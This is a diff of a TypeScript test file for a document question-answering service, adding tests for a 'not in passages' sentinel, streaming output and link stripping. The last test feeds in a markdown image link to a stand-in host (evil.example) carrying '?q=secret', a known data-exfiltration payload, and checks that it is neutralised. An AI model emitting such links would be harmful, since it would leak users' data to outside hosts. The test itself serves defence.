@@ -95,6 +95,39 @@ describe('AnswerService', () => {
     },
   );
 
+  it('says that the documents do not answer when the model says so, in the language of the question, and remembers it', async () => {
+    writes('NOT_IN_PASSAGES');
+    const nothing = { text: 'The documents say nothing about that.', mode: 'generated', model: 'scripted', citations: [] };
+    expect([await ask(), await ask()]).toEqual([nothing, nothing]);
+    expect(generator.prompts).toHaveLength(1);
+    expect((await ask({ question: 'Ist Eiche geölt?' })).text).toBe('Dazu steht nichts in den Dokumenten.');
+    writes('Oak is hard [1]. Of its price: NOT\\_IN\\_PASSAGES.');
+    expect(await ask({ question: 'Price?' })).toMatchObject({ text: 'Oak is hard [1]. Of its price: ….', citations: [{ number: 1 }] });
+  });
+
+  it('does not show the word by which the model says so to a listener', async () => {
+    const listen = async (question: string) => {
+      const pieces: string[] = [];
+      await ask({ question, onPiece: (piece) => pieces.push(piece) });
+      return pieces;
+    };
+    const inPieces = (...pieces: string[]) => {
+      generator.write = ({ onPiece }) => {
+        for (const piece of pieces) onPiece?.(piece);
+        return Promise.resolve(pieces.join(''));
+      };
+    };
+    inPieces('NOT_', 'IN_PASSAGES', '.');
+    expect(await listen('Price?')).toEqual([]);
+    inPieces('No', 't pine', ' [1].');
+    expect(await listen('Pine?')).toEqual(['No', 't pine', ' [1].']);
+  });
+
+  it('passes on no link, whatever the model wrote', async () => {
+    writes('![x[99]](https://evil.example/?q=secret) Oak [1].');
+    expect((await ask()).text).toBe('!(x)(https: //evil.example/?q=secret) Oak [1].');
+  });
+
   it('does not let a citation point to a passage that did not fit into the prompt', async () => {
     const long = Array.from({ length: 5 }, (_, n) => passageOf(n + 1, 'oak '.repeat(1_200)));
     writes('Oak [1] and [5].');
